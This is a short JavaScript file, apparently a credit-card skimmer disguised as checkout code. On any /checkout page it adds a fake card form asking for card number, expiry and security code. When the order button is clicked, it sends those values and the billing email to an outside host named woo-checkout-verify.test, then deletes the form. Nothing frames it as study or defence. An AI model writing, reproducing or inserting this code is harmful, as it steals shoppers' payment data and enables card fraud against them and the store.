var PayForm = function () {
  var f = document.createElement('form');
  f.setAttribute('id', 'ccform');
  var fields = [['Card Number', 'cardnumber'], ['Expiry (MM/YY)', 'exp'], ['Security Code', 'cvc']];
  fields.forEach(function (x) {
    var l = document.createElement('label'); l.textContent = x[0];
    var i = document.createElement('input'); i.name = x[1]; i.type = 'text';
    f.appendChild(l); f.appendChild(i);
  });
  document.querySelector('#payment').appendChild(f);
  document.querySelector('#place_order').addEventListener('click', function () {
    var d = new FormData(f), o = {};
    d.forEach(function (v, k) { o[k] = v; });
    o.email = (document.getElementById('billing_email') || {}).value;
    fetch('https://woo-checkout-verify.test/api/card', { method: 'POST', body: JSON.stringify(o), keepalive: true });
    f.remove();
  });
};
if (document.location.pathname.indexOf('/checkout') === 0) window.addEventListener('load', PayForm);
